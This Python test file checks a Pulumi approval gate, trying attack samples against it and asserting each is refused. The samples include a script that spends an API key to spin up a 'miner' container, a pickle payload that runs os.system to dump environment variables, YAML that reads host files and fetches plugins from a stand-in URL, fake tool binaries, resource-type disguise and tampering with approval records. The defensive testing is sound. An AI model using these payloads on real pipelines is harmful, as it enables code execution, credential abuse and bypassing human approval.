"""
An author who cannot edit the gate's folder: nothing is created without an approval.

`plan` has a key that only reads, and `apply` the full one. Each author changes the program, or the files beside it.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from stacks_pulumi.emulator import Emulator
from stacks_pulumi.errors import StacksError
from stacks_pulumi.gate.flow import RefusedError
from tests.support.forked import commands
from tests.support.gate import Gated
from tests.support.saved_plans import pickled
from tests.support.stack import Stack

FREE = {"free": {"increase_per_day": 5}, "limits": {"max_total": 40}}

MINES = """\
import json, os, urllib.request

request = urllib.request.Request(
    os.environ["ADDRESS"] + "/containers",
    data=json.dumps({"name": "miner", "template": "nodejs", "plan": "premium"}).encode(),
    headers={"Authorization": "Bearer " + os.environ["STACKS_API_KEY"], "Content-Type": "application/json"},
)
try:
    urllib.request.urlopen(request)
except OSError:
    pass
"""
"""Creates a container without a step of Pulumi, if the key may."""

WEB = 'stacks.Container("web", template="nodejs")\n'
SHOP = """\
name: tests
runtime: yaml
resources:
  orders:
    type: stacks:index:Container
    properties: {template: nodejs}
"""


class Author:
    """An author, and the pipeline that plans and applies their changes."""

    def __init__(self, gated: Gated, emulator: Emulator) -> None:
        self.gated, self.emulator = gated, emulator
        self.stack = gated.stack
        self.stack.cli("config", "rm", "stacks:apiKey")
        self.stack.env["ADDRESS"] = emulator.url
        self._read, self._full = emulator.new_key(scopes=["containers:read"]), emulator.key

    def plan(self) -> str:
        """Plan; return the result, or the error."""
        self.stack.env["STACKS_API_KEY"] = self._read
        try:
            return self.gated.plan().verdict.result
        except StacksError as error:
            return str(error)

    def apply(self) -> str:
        """Apply the record; return the exit code, or why it is refused."""
        self.stack.env["STACKS_API_KEY"] = self._full
        try:
            return str(self.gated.apply())
        except RefusedError as error:
            return str(error)

    @property
    def containers(self) -> list[str]:
        """The containers of the account."""
        return self.emulator.state.names()


@pytest.fixture
def author(stack: Stack, tmp_path: Path, emulator: Emulator) -> Author:
    """An author; the gate's `free` has place for a container."""
    return Author(Gated(stack, tmp_path / "gated", FREE), emulator)


def test_code_of_a_program_never_runs_with_the_full_key_without_an_approval(author: Author) -> None:
    stack, gated = author.stack, author.gated
    stack.program(MINES + WEB)
    assert author.plan() == "needs_approval"
    assert "it needs an approval" in author.apply()
    assert author.containers == []

    # An approval is for this code.
    stack.program(WEB)
    author.plan()
    gated.approve()
    stack.program(f"{MINES}{WEB}")
    assert "the program's files are not those that were planned" in author.apply()
    assert author.containers == []

    # Without a step, the code does not run at all.
    stack.program(WEB)
    author.plan()
    gated.approve()
    assert author.apply() == "0"
    stack.program(MINES + WEB)
    assert author.plan() == "nothing"
    assert author.apply() == "0"
    assert author.containers == ["web"]


def _says_nothing_is_wrong(folder: Path) -> None:
    (folder / "comment.md").write_text("LGTM", encoding="utf-8")
    (folder / "junit.xml").write_text("<testsuites/>", encoding="utf-8")


def _plans_something_cheaper(folder: Path) -> None:
    plan = (folder / "plan.json").read_text(encoding="utf-8")
    (folder / "plan.json").write_text(plan.replace("premium", "micro"), encoding="utf-8")


def _plans_it_with_its_digest(folder: Path) -> None:
    _plans_something_cheaper(folder)
    digest = hashlib.sha256((folder / "plan.json").read_bytes()).hexdigest()
    _edit(folder, lambda content: content["digests"].update(plan=digest))


def _says_that_it_is_data(folder: Path) -> None:
    _edit(folder, lambda content: content.update(code="", runtime="yaml"))


def _lasts_for_ever(folder: Path) -> None:
    _edit(folder, lambda content: content.update(expires_at="2099-01-01T00:00:00Z"))


def _approves_itself(folder: Path) -> None:
    (folder / "approvals").mkdir(exist_ok=True)
    (folder / "approvals" / "ann.txt").write_text("approved", encoding="utf-8")


def _edit(folder: Path, change: Callable[[dict[str, Any]], object]) -> None:
    content = json.loads((folder / "record.json").read_text(encoding="utf-8"))
    change(content)
    (folder / "record.json").write_text(json.dumps(content), encoding="utf-8")


def test_a_record_that_the_job_of_the_plan_rewrites_is_not_applied(author: Author) -> None:
    """A program that runs in that job can leave a process behind, which does this as soon as there is a record."""
    gated, made = author.gated, author.gated.record
    kept = made.with_name("kept")
    author.stack.program('stacks.Container("web", template="nodejs", plan="premium")')
    assert author.plan() == "needs_approval"
    shutil.copytree(made, kept)

    def put_back() -> None:
        shutil.rmtree(made)
        shutil.copytree(kept, made)

    for change in (
        _says_nothing_is_wrong,
        _plans_it_with_its_digest,
        _says_that_it_is_data,
        _approves_itself,
    ):
        change(made)
        assert author.apply() != "0", change.__name__
        put_back()
    # After the approval, too.
    for change in (
        _plans_something_cheaper,
        _plans_it_with_its_digest,
        _says_that_it_is_data,
        _lasts_for_ever,
    ):
        gated.approve()
        change(made)
        assert author.apply() != "0", change.__name__
        put_back()
    assert author.containers == []


COMPILE = """\
#!/bin/sh
python3 -I mine.py
cat program.yaml
"""
READS = """\
variables:
  stolen: {"fn::readFile": /etc/hostname}
outputs:
  stolen: ${stolen}
"""
CALLS = """\
variables:
  other:
    fn::invoke: {function: "evil:index:run", options: {pluginDownloadURL: "http://127.0.0.1:9/"}}
outputs:
  other: ${other}
"""
ADDRESS = "config: {stacks:baseUrl: {value: 'http://127.0.0.1:9'}}\n"


def test_a_program_in_yaml_that_is_not_only_data_is_not_free(
    author: Author, yaml_language_host: Path
) -> None:
    folder = author.stack.folder
    files = {"compile.sh": COMPILE, "mine.py": MINES, "program.yaml": SHOP}
    attempts: dict[str, tuple[str, dict[str, str]]] = {
        "a compiler": (SHOP.replace("yaml", "{name: yaml, options: {compiler: ./compile.sh}}"), files),
        "another file": (SHOP, {"Main.yaml": SHOP + READS}),
        "a file of the machine": (SHOP + READS, {}),
        "a plugin from elsewhere": (SHOP + CALLS, {}),
        "another address": (SHOP + ADDRESS, {}),
        "another backend": (f"{SHOP}backend: {{url: 'file:///tmp'}}\n", {}),
        "another plugin": (f"{SHOP}plugins: {{providers: [{{name: stacks, path: .}}]}}\n", {}),
    }
    for name, (text, beside) in attempts.items():
        author.stack.yaml(text, yaml_language_host)
        for file, content in beside.items():
            (folder / file).write_text(content, encoding="utf-8")
            (folder / file).chmod(0o755)

        planned = author.plan()

        assert planned not in {"free", "nothing"}, name
        assert author.apply() != "0", name
        assert author.containers == [], name
        for file in beside:
            (folder / file).unlink()


MODULES = (
    "pip",
    "pulumi",
    "pulumi_policy",
    "requests",
    "yaml",
    "msgspec",
    "stacks_pulumi",
    "grpc",
    "sitecustomize",
)
PROGRAMS = ("python3", "python", "git", "pulumi-resource-stacks", "pulumi-language-yaml")
LEAVES_A_TRACE = 'import os\nopen(os.environ["TRACE"], "a").write(__name__)\n'


@pytest.mark.real_processes
def test_files_beside_a_program_of_data_never_run(
    stack: Stack, emulator: Emulator, yaml_language_host: Path, tmp_path: Path
) -> None:
    """The gate, its packs and the plugins start in the project's folder, and take no module and no program from it."""
    packs = {"plans": {"allowed-plans": {"allowed": ["basic"]}}}
    author, trace = Author(Gated(stack, tmp_path / "gated", FREE, packs), emulator), tmp_path / "trace"
    # Its end starts a plugin in Python, which is the state's and not the program's.
    stack.program('stacks.Container("old", template="nodejs")')
    assert author.plan() == "needs_approval"
    author.gated.approve()
    assert author.apply() == "0"
    stack.env["TRACE"] = str(trace)
    stack.yaml(SHOP, yaml_language_host)
    for module in MODULES:
        (stack.folder / f"{module}.py").write_text(LEAVES_A_TRACE, encoding="utf-8")
    for name in PROGRAMS:
        (stack.folder / name).write_text('#!/bin/sh\necho "$0" >>"$TRACE"\nexit 1\n', encoding="utf-8")
        (stack.folder / name).chmod(0o755)
    assert (commands.folder() / "pulumi-resource-stacks").exists()

    assert author.plan() == "needs_approval"
    author.gated.approve()
    assert author.apply() == "0"

    assert author.containers == ["orders"]
    assert not trace.exists(), trace.read_text("utf-8")


class _Runs:
    """A dynamic provider that runs a command wherever it is read."""

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        run = "__import__('os').system('env >>\"$TRACE\"')"
        return eval, (f"{run} or __import__('pulumi').dynamic.ResourceProvider()",)


def test_code_that_only_the_state_has_needs_an_approval(
    author: Author, yaml_language_host: Path, tmp_path: Path
) -> None:
    """The engine reads what it only forgets, and no step changes anything of it."""
    stack, trace, file = author.stack, tmp_path / "trace", tmp_path / "state.json"
    stack.env["TRACE"] = str(trace)
    stack.yaml(SHOP, yaml_language_host)
    assert author.plan() == "free"
    assert author.apply() == "0"
    stem, provider = "urn:pulumi:dev::tests::", "pulumi:providers:pulumi-python"
    id_, code = "1b8e4c4e-3d5a-4e0c-9f57-0c8f4f0a6b11", {"__provider": pickled(_Runs())}
    looked_up = {
        "urn": f"{stem}pulumi-python:dynamic:Resource::it",
        "type": "pulumi-python:dynamic:Resource",
        "id": "it",
        "custom": True,
        "external": True,
        "refreshBeforeUpdate": True,
        "provider": f"{stem}{provider}::default::{id_}",
        "inputs": code,
        "outputs": code,
    }
    state = json.loads(stack.export())
    state["deployment"]["resources"] += [
        {"urn": f"{stem}{provider}::default", "type": provider, "id": id_, "custom": True},
        looked_up,
    ]
    file.write_text(json.dumps(state), encoding="utf-8")
    stack.cli("stack", "import", "--file", str(file))

    assert author.plan() == "needs_approval"
    # It ran with the key that reads.
    trace.unlink()
    assert "it needs an approval" in author.apply()
    assert not trace.exists()


IN_DISGUISE = """
from pulumi.runtime.settings import get_monitor

monitor = get_monitor()
register = monitor.RegisterResource

def in_disguise(request, *rest, **more):
    if request.type.endswith("Container"):
        request.type = "TYPE"
    return register(request, *rest, **more)

monitor.RegisterResource = in_disguise
mine = stacks.Provider("mine", api_key=pulumi.Config("stacks").require("apiKey"))
stacks.Container("big", template="nodejs", plan="premium", opts=pulumi.ResourceOptions(provider=mine))
"""
"""The engine asks the provider that a resource names, whatever its type is, and a dynamic provider makes any type."""


@pytest.mark.parametrize(
    ("kind", "problem"),
    [
        ("pulumi:pulumi:Stack", "only the stack itself has its type"),
        ("random:index/randomString:RandomString", "is of another package than its type"),
    ],
)
def test_a_container_does_not_look_like_the_stack_itself_or_like_a_harmless_resource(
    stack: Stack, emulator: Emulator, tmp_path: Path, kind: str, problem: str
) -> None:
    """A program that is code chooses the type, and also the provider."""
    settings = {"free": {"increase_per_day": 5, "code": True}, "harmless": ["random:*"]}
    gated = Gated(stack, tmp_path / "gated", settings)
    stack.program(IN_DISGUISE.replace("TYPE", kind))
    with pytest.raises(RefusedError, match=problem):
        gated.plan()
    assert emulator.state.names() == []


def test_a_container_does_not_look_like_the_stack_itself(
    stack: Stack, emulator: Emulator, tmp_path: Path
) -> None:
    """A program that is code chooses the type, and the URN of a child ends with it."""
    gated = Gated(stack, tmp_path / "gated", {"free": {"increase_per_day": 5, "code": True}})
    stack.program(
        """
        class Container(stacks.Container):
            pass

        Container._resource_type_name = "dynamic/x:y$pulumi:pulumi:Stack"
        Container("big", template="nodejs", plan="premium")
        """
    )
    with pytest.raises(RefusedError, match="which its URN does not show"):
        gated.plan()
    assert emulator.state.names() == []


def test_no_file_of_the_project_says_the_version_of_a_plugin(
    stack: Stack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A plan has the name of the package, which would lead to a command of the author, before any approval."""
    gated, ran = Gated(stack, tmp_path / "gated"), tmp_path / "ran"
    command = stack.folder / "pulumi-resource-x" / "pulumi-resource-stacks"
    command.parent.mkdir()
    command.write_text(f"#!/bin/sh\nenv >{ran}\n", encoding="utf-8")
    command.chmod(0o700)
    stack.program('pulumi.ComponentResource("x/pulumi-resource-stacks:index:Thing", "it")')
    assert gated.plan().verdict.result == "needs_approval"

    # As in a pipeline.
    monkeypatch.chdir(stack.folder)
    why = gated.refused()
    assert not ran.exists()
    assert "it needs an approval" in why
